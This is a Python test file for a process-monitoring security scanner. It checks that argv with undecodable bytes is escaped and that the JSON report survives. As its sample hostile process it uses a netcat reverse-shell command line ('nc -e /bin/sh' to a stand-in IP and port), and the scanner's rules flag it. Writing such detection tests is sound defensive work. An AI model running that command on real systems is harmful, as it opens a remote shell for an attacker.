"""The scan report's JSON, against what hostile processes can put in it."""
def test_undecodable_argv_bytes_neither_crash_the_analysis_nor_the_report(tmp_path):
    """A sensor reads argv from /proc with surrogateescape: bytes that are not UTF-8 would stay lone
    surrogates, which RE2 and the JSON encoders refuse. Process events write them as \\xNN, and the
    report falls back to escapes for any that reach it another way."""
    import json as std_json

    from vigiles.analysis.engine import Engine
    from vigiles.analysis.rules import load
    from vigiles.pipeline import ScanResult
    from vigiles.sensors.common import process_event
    from vigiles.sinks.report import to_json

    argv = [part.decode("utf-8", "surrogateescape") for part in
            [b"nc", b"-e", b"/bin/sh", b"198.51.100.7", b"4444", b"\xff\xfe"]]
    event = process_event(1.0, 9, 1, argv, "/usr/bin/nc", "/", 0, "netlink", 1)
    assert event.argv[-1] == "\\xff\\xfe"  # the bytes, written out
    findings = Engine(load()).analyze(event)
    assert findings
    text = to_json(ScanResult(findings=findings, stats={"events": 1}))
    text.encode("utf-8")  # writable
    assert std_json.loads(text)["findings"][0]["rule"] == findings[0].rule
    plain = to_json(ScanResult(findings=[], stats={"events": 0, "note": "café"}))
    assert '"café"' in plain  # the common case keeps UTF-8 as is
    raw = ScanResult(findings=[], stats={"events": 0, "argv": ["x\udcff"]})
    assert std_json.loads(to_json(raw))["stats"]["argv"] == ["x\udcff"]  # escaped, not lost
